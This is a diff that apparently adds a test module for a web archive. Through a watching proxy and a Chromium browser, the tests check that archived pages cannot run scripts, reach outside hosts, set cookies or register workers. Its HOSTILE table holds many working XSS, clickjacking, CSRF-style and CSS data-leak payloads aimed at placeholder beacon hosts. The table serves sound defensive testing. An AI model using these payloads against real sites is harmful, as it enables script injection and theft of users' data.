@@ -1,0 +1,212 @@
+"""A live web, an archive that may capture it, and a browser whose every connection is watched.
+
+What pages try is here, too: whoever shows pages that came in any way holds it against the same.
+"""
+
+import asyncio
+import re
+from contextlib import asynccontextmanager, suppress
+from hashlib import md5
+
+from aiohttp import web
+from playwright.async_api import Error
+
+from archiver.config import Settings
+from archiver.runtime import open_runtime
+from archiver.web.app import build_app
+from tests.browser import chromium
+from tests.small_web.matter import png
+
+BROWSERS_OWN = re.compile(r"google(apis)?\.com[:/]|gstatic\.com[:/]")
+"""Chromium asks its makers for updates, whatever it is told."""
+SHEET = """@import 'nested.css'; body { color: rgb(10, 20, 30); background-color: #eef }
+p { background: url(relative.png) no-repeat right }"""
+
+
+class Web:
+    """The live web: a page at ``/``, whatever is asked for below ``/c/``, and the hostile ones."""
+
+    def __init__(self):
+        self.origin = self.other = ""
+        self.hits = []
+        self.pages = {}
+        self.more = {}
+        """Header fields of every page."""
+        self.heads = []
+        """Of whatever a browser asked the watching proxy for."""
+        self.heard = asyncio.Event()
+
+    async def answer(self, request):
+        self.hits.append(request.path_qs)
+        name = request.path
+        if name in self.pages:
+            headers = {
+                "Link": "</c/linked.css>; rel=preload; as=style",
+                "Set-Cookie": "evil=1; Path=/",
+                "Content-Security-Policy": "default-src 'none'",
+                "Clear-Site-Data": '"*"',
+                "Service-Worker-Allowed": "/",
+                "Access-Control-Allow-Origin": "*",
+                **self.more,
+            }
+            kind, body = self.pages[name]
+            if isinstance(body, str):
+                body = body.encode()
+            return web.Response(body=body, headers=headers | {"Content-Type": kind})
+        suffix = name.rpartition(".")[2]
+        if suffix == "png":
+            return web.Response(
+                body=png(*md5(name.encode()).digest()[:3]), content_type="image/png"
+            )
+        if suffix == "css":
+            text = SHEET if "sheet" in name else ""
+            granted = {"Access-Control-Allow-Origin": "*"}
+            return web.Response(text=text, content_type="text/css", headers=granted)
+        if suffix == "html":
+            return web.Response(text="<p>framed", content_type="text/html")
+        raise web.HTTPNotFound
+
+
+@asynccontextmanager
+async def open_world(data):
+    """The live web, an archive that may capture it, its service, and a watching proxy."""
+    live, strays = Web(), []
+
+    async def stray(reader, writer):
+        line = (await reader.readline()).decode("latin-1")
+        if not BROWSERS_OWN.search(line):
+            strays.append(line)
+            with suppress(asyncio.IncompleteReadError):
+                head = line + (await reader.readuntil(b"\r\n\r\n")).decode("latin-1")
+                live.heads.append(head)
+                live.heard.set()
+        writer.close()
+
+    app = web.Application()
+    app.router.add_route("*", "/{path:.*}", live.answer)
+    runner = web.AppRunner(app, access_log=None)
+    await runner.setup()
+    await web.TCPSite(runner, "127.0.0.1", 0).start()
+    port = runner.addresses[0][1]
+    live.origin, live.other = f"http://127.0.0.1:{port}", f"http://localhost:{port}"
+    proxy = await asyncio.start_server(stray, "127.0.0.1", 0)
+    settings = Settings(data=data, allow_networks="127.0.0.0/8,::1/128", host_delay=0)
+    async with open_runtime(settings) as runtime:
+        served = web.AppRunner(build_app(runtime), access_log=None)
+        await served.setup()
+        await web.TCPSite(served, "127.0.0.1", 0).start()
+        yield live, runtime, served.addresses[0][1], (proxy, strays)
+        await served.cleanup()
+    proxy.close()
+    await runner.cleanup()
+
+
+def watching(world, *, whole=False):
+    """A browser that reaches the service; every other connection goes to the watcher."""
+    _, _, port, (proxy, _) = world
+    address = proxy.sockets[0].getsockname()
+    return chromium(
+        "--hide-scrollbars",
+        "--disable-background-networking",
+        "--disable-component-update",
+        "--disable-sync",
+        "--no-first-run",
+        f"--proxy-server=http://127.0.0.1:{address[1]}",
+        f"--proxy-bypass-list=<-loopback>;127.0.0.1:{port}",
+        whole=whole,
+    )
+
+
+async def keep(live, runtime, *paths):
+    saved = await runtime.entries.save([live.origin + path for path in paths], source="test")
+    await runtime.crawling.work()
+    live.hits.clear()
+    return [(await runtime.entries.get(each.hash_url)).entry for each in saved.accepted]
+
+
+async def observed(browser, url):
+    """A page that is looked at, and every request that it and what it opens make."""
+    context = await browser.new_context(viewport={"width": 700, "height": 900})
+    asked = []
+    context.on("request", lambda request: asked.append(request.url))
+    context.on("websocket", lambda socket: asked.append(socket.url))
+    page = await context.new_page()
+    await page.goto(url, wait_until="networkidle")
+    return context, page, asked
+
+
+def outside(asked, base, *ours):
+    """Requests that went neither into the archive nor to the pages that show it."""
+    own = (f"{base}/web/", f"{base}/static/", f"{base}/shown/")
+    allowed = (*own, "data:", "about:", "mailto:", *ours)
+    return [url for url in asked if not url.startswith(allowed)]
+
+
+AT_ONCE = 6
+RUN = "document.title='ran';fetch('BEACON/run');new Image().src='BEACON/run'"
+HOSTILE = {
+    "scripts": f"""<script>{RUN}</script><script src=BEACON/s.js></script><body onload="{RUN}"
+        onpageshow="{RUN}"><img src=x onerror="{RUN}"><svg onload="{RUN}"><script>{RUN}</script>
+        <animate onbegin="{RUN}" attributeName=x dur=1s /></svg><details open ontoggle="{RUN}">x
+        </details><input autofocus onfocus="{RUN}"><video><source onerror="{RUN}"></video>
+        <math><mtext><style><img src=x onerror="{RUN}"></style></mtext></math>
+        <template><script>{RUN}</script></template><noscript><p title="</noscript><img src=x
+        onerror={RUN}>"></noscript><svg><style><!--</style><img src=x onerror="{RUN}">--></svg>""",
+    "links": f"""<a id=click href="javascript:{RUN}">x</a><a href=" java&#10;script:{RUN}">y</a>
+        <iframe src="javascript:{RUN}"></iframe><iframe src="data:text/html,<script>{RUN}</script>">
+        </iframe><object data="data:text/html,<script>{RUN}</script>"></object><embed
+        src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>">
+        <iframe srcdoc="<script>{RUN}</script>"></iframe><form action="javascript:{RUN}"><button
+        formaction="javascript:{RUN}">z</button></form><svg><a xlink:href="javascript:{RUN}">
+        <text y=9>w</text></a></svg>""",
+    "refresh": """<meta http-equiv=refresh content="0;url=BEACON/refresh"><meta http-equiv="Refresh"
+        content="0; url=javascript:document.title='ran'"><meta http-equiv=set-cookie
+        content="evil=2"><p>refresh""",
+    "break-out": f"""<base target=_top><a id=click href=BEACON/top>x</a><script>top.location=
+        'BEACON/top'</script><iframe src=BEACON/frame sandbox="allow-scripts allow-top-navigation
+        allow-same-origin"></iframe><iframe name="{RUN}" src=//away.example></iframe>""",
+    "posts": """<form id=f action=SERVICE/add method=post target=_top><input name=url
+        value=BEACON/added><button id=click>x</button></form><form action="/logout" method=post>
+        <button>y</button></form><img src=SERVICE/healthz><img src=SERVICE/api/v1/entries>
+        <link rel=stylesheet href=SERVICE/static/x.css><iframe src=SERVICE/></iframe>
+        <object data=SERVICE/snapshots></object><video src=SERVICE/metrics></video>""",
+    "workers": f"""<script>navigator.serviceWorker.register('/web/sw.js');new Worker('BEACON/w.js');
+        new SharedWorker('BEACON/w.js');{RUN}</script><script type=speculationrules>{{"prefetch":
+        [{{"urls": ["BEACON/spec"]}}], "prerender": [{{"urls": ["BEACON/spec2"]}}]}}</script>
+        <script type=importmap>{{"imports": {{"a": "BEACON/a.js"}}}}</script>""",
+    "cookies": "<script>document.cookie='evil=3';localStorage.x=1;document.title='ran'</script>x",
+    "phones-home": """<style>@import url(BEACON/i.css);@font-face{font-family:z;src:url(BEACON/f)}
+        body{font-family:z;background:url(BEACON/bg)}input[value^="s"]{background:url(BEACON/attr)}
+        @namespace url(BEACON/ns);a:visited{background:url(BEACON/v)}:root{--x:url(BEACON/var);
+        cursor:url(BEACON/cur),auto}@media print{p{background:url(BEACON/print)}}</style><p
+        style="background:var(--x)">p<input value=secret>""",
+    "hints": """<link rel=prefetch href=BEACON/p><link rel=dns-prefetch href=//dns.away.example>
+        <link rel=preconnect href=BEACON><link rel=prerender href=BEACON/pr><link rel="preload"
+        as=script href=BEACON/pl><link rel=modulepreload href=BEACON/m><a href=x
+        ping="BEACON/ping" id=click>x</a><img src=BEACON/i loading=lazy
+        attributionsrc=BEACON/attribution><portal src=BEACON/portal></portal>""",
+    "sockets": f"""<script>new WebSocket('ws://away.example/');new EventSource('BEACON/es');
+        new RTCPeerConnection({{iceServers:[{{urls:'stun:away.example'}}]}}).createDataChannel('x');
+        navigator.sendBeacon('BEACON/sb');{RUN}</script>x""",
+}  # fmt: skip
+
+
+async def is_harmless(browser, base, entry, turns):
+    """Look at a page in its banner, read it, and open its capture alone; click what there is."""
+    snapshot = f"{base}/{entry.hash_url}/{entry.latest}/"
+    read = f"{base}/{entry.hash_url}/"
+    for url in (snapshot, read, f"{base}/web/{entry.latest}/{entry.url}"):
+        async with turns:
+            context, page, asked = await observed(browser, "about:blank")
+            with suppress(Error):  # a download is no page
+                await page.goto(url, wait_until="networkidle")
+            for frame in page.frames[:2]:
+                with suppress(Error):  # a frame may be gone by now, or have nothing to click
+                    await frame.locator("#click").click(force=True, timeout=100)
+            await page.wait_for_load_state("networkidle")
+            titles = [await each.title() for each in page.frames if not each.is_detached()]
+            cookies, workers = await context.cookies(), context.service_workers
+            await context.close()
+        assert outside(asked, base, snapshot, read) == [], entry.url
+        assert "ran" not in titles, entry.url
+        assert (cookies, workers) == ([], []), entry.url
